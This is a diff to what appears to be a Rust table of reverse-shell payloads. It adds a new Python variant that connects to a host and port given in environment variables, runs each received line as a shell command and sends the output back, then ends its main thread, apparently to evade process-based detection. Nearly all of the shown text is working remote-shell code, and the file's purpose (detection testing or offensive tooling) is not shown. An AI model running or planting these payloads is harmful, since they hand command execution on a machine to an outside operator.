@@ -51,7 +51,7 @@ const INTERPRETERS: [(&str, &[&str], &str, &str); 4] = [
 ];
 
 /// Loops that read a line, run it, and send its output back.
-const LOOPS: [(&str, &[&str], &str); 9] = [
+const LOOPS: [(&str, &[&str], &str); 10] = [
     (
         "bash_eval",
         &["bash"],
@@ -85,6 +85,17 @@ while(<$s>){ chomp; system $_ }'"#,
         r#"exec /usr/bin/python3 -c 'import socket,os,subprocess
 s=socket.create_connection((os.environ["H"],int(os.environ["P"])))
 for line in s.makefile(): subprocess.run(line,shell=True,stdin=subprocess.DEVNULL,stdout=s,stderr=s)'"#,
+    ),
+    // The first thread ends and leaves the work, and what is open, to another one.
+    (
+        "python_without_its_first_thread",
+        &["python3"],
+        r#"exec /usr/bin/python3 -c 'import ctypes,os,socket,subprocess,threading
+s=socket.create_connection((os.environ["H"],int(os.environ["P"])))
+def work():
+  for l in s.makefile(): subprocess.run(l,shell=True,stdin=subprocess.DEVNULL,stdout=s,stderr=s)
+  os._exit(0)
+threading.Thread(target=work).start(); ctypes.CDLL(None).pthread_exit(None)'"#,
     ),
     (
         "ruby_system",
